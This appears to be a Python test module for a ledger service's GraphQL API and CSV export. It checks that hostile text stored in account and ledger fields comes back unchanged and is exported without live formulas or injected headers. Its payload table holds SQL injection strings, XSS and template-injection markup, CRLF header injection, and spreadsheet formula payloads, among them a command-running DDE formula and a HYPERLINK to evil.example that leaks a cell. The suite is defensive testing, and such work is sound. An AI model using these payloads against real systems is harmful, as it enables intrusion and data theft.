"""Texts that are SQL, formulas or markup: kept, found and exported as the texts they are."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from typing import Any
from urllib.parse import quote

from app.abuse.cases import JSON, Attempt, Case
from app.abuse.stage import Stage
from app.abuse.wire import Reply, a_name, connected, request

PAYLOADS = {
    "a quote and a comment": "x'; drop table entry; --",
    "a condition that holds": "' or '1'='1",
    "a union": "x' union select secret, 1, 2 from service_key --",
    "a statement of its own": "1; update account set balance = 10^9; --",
    "a dollar quote": "$$; select pg_sleep(10); $$",
    "a place for an argument": "$1 %s %(a)s ? :a {0} {a}",
    "backslashes": "\\'; \\x27 \\\\ E'\\''",
    "wildcards": "%_%\\%' escape '%",
    "a formula": "=1+1",
    "a formula with a link": '=HYPERLINK("https://evil.example?"&A1, "pay")',
    "a formula with a command": "=cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at": "@SUM(1+1)",
    "a tab before a formula": "\t=1+1",
    "a return before a formula": "\r=1+1",
    "a line feed before a formula": "\n=1+1",
    "a wide equals sign": "\uff1d1+1",
    "cells of its own": 'a","=1+1\r\n"=2+2',
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "a header of its own": "a\r\nSet-Cookie: a=b",
    "marks that turn the text around": "\u202egrante\u202c \u2066x\u2069 \u200f",
    "letters on letters": "z\u0351\u0369\u034c\u0311" * 20,
    "letters of every plane": "\U0001f9fe\U00020000\ufdfd\ufeff\u0000".replace("\0", ""),
    "a prototype": "__proto__",
}

OPEN = """mutation ($input: OpenAccountInput!) { openAccount(input: $input) {
  ... on AccountOpened { account { id name } } ... on Refused { message } } }"""
WRITES = """mutation ($grant: GrantCreditsInput!, $charge: RecordChargeInput!, $job: StartJobInput!,
  $mend: AdjustBalanceInput!) {
  grantCredits(input: $grant) { ... on CreditsGranted { entry { id } } }
  recordCharge(input: $charge) { ... on ChargeRecorded { entry { id } } }
  startJob(input: $job) { ... on JobStarted { entry { id } } }
  adjustBalance(input: $mend) { ... on BalanceAdjusted { entry { id } } } }"""
READ = """query ($id: ID!, $text: String!) { account(id: $id) { balance name
  usage { nodes { ... on LedgerEntry { reason { detail } campaign metadata job { key operation } }
    ... on Adjustment { note } } }
  labelled: usage(filter: {campaign: $text}) { nodes { ... on LedgerEntry { id } } }
  found: usage(filter: {search: $text}) { nodes { ... on LedgerEntry { id } } }
  job(key: $text) { operation } } }"""
LINES = 4
BALANCE = 90 - 10 - 5 + 1
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBERS = ("amount", "balanceAfter")


def kept(text: str) -> Attempt:
    """Books the text wherever one can stand; says whether it came back as it went in."""

    async def attempt(stage: Stage) -> str:
        try:
            return await _kept(stage, text)
        except _NotAnswered as answer:
            return str(answer)

    return attempt


async def _kept(stage: Stage, text: str) -> str:
    key = a_name()
    opened = await _data(stage, OPEN, {"input": {"key": key, "name": text}})
    there = opened["openAccount"].get("account")
    if there is None or there["name"] != text:
        return f"name: {opened}"
    booked = await _data(stage, WRITES, _writes(there["id"], text))
    if not all(booked.values()):
        return f"refused: {booked}"
    read = (await _data(stage, READ, {"id": there["id"], "text": text}))["account"]
    exported = await _exported(stage, there["id"])
    return _difference(read, text) or _unsafe(exported, text) or "kept"


class _NotAnswered(Exception):
    """What came instead of an answer."""


def _writes(account: str, text: str) -> dict[str, Any]:
    common = {"account": account, "metadata": {text: [text]}}
    return {
        "grant": {**common, "idempotencyKey": f"{text}1", "amount": 90, "detail": text,
                  "reasonCode": "GRANT_PROMO"},
        "charge": {**common, "idempotencyKey": f"{text}2", "amount": 10, "campaign": text,
                   "detail": text},
        "job": {**common, "idempotencyKey": f"{text}3", "amount": 5, "key": text,
                "operation": text, "deadlineSeconds": 86_400},
        "mend": {**common, "idempotencyKey": f"{text}4", "amount": 1, "note": text,
                 "reasonCode": "MANUAL_CORRECTION"},
    }  # fmt: skip


def _difference(read: Mapping[str, Any], text: str) -> str:
    nodes: list[dict[str, Any]] = read["usage"]["nodes"]
    if len(nodes) != LINES:
        return f"{len(nodes)} lines"
    adjustment, job, charge, grant = nodes
    shown: dict[str, Any] = {
        "name": read["name"],
        "detail": grant["reason"]["detail"],
        "detail of a charge": charge["reason"]["detail"],
        "campaign": charge["campaign"],
        "key": job["job"]["key"],
        "operation": read["job"] and read["job"]["operation"],
        "note": adjustment["note"],
    }
    changed = [name for name, value in shown.items() if value != text]
    if any(node.get("metadata") != {text: [text]} for node in nodes):
        changed.append("metadata")
    if len(read["labelled"]["nodes"]) != 1 or len(read["found"]["nodes"]) > LINES:
        changed.append("what is found")
    if read["balance"] != BALANCE:
        changed.append("balance")
    return ", ".join(changed)


def _unsafe(exported: Reply, text: str) -> str:
    rows = list(csv.DictReader(io.StringIO(exported.body.decode(), newline="")))
    cells = [(name, cell) for row in rows for name, cell in row.items() if name not in NUMBERS]
    formulas = {name for name, cell in cells if cell.startswith(FORMULA)}
    if formulas:
        return f"formulas in {', '.join(sorted(formulas))}"
    if len(rows) != LINES or sum(cell in (text, f"'{text}") for _, cell in cells) < LINES:
        return "the export differs"
    return "headers differ" if "set-cookie" in exported.headers else ""


async def _data(stage: Stage, query: str, variables: dict[str, Any]) -> dict[str, Any]:
    body = json.dumps({"query": query, "variables": variables}).encode()
    reply = await _reply(stage, "POST", "/graphql", body)
    if "data" not in reply.json():
        raise _NotAnswered(str(reply))
    return reply.json()["data"]


async def _exported(stage: Stage, account: str) -> Reply:
    return await _reply(stage, "GET", f"/export.csv?account={quote(account)}")


async def _reply(stage: Stage, method: str, target: str, body: bytes = b"") -> Reply:
    headers = {**JSON, "Authorization": f"Bearer {stage.service_key}"}
    async with connected(stage.server.port) as line:
        await line.send(request(method, target, headers, body))
        return await line.reply() or Reply(0)


CASES = [
    Case(f"in every text: {name}", "kept", kept(text), times=2, parts=4)
    for name, text in PAYLOADS.items()
]
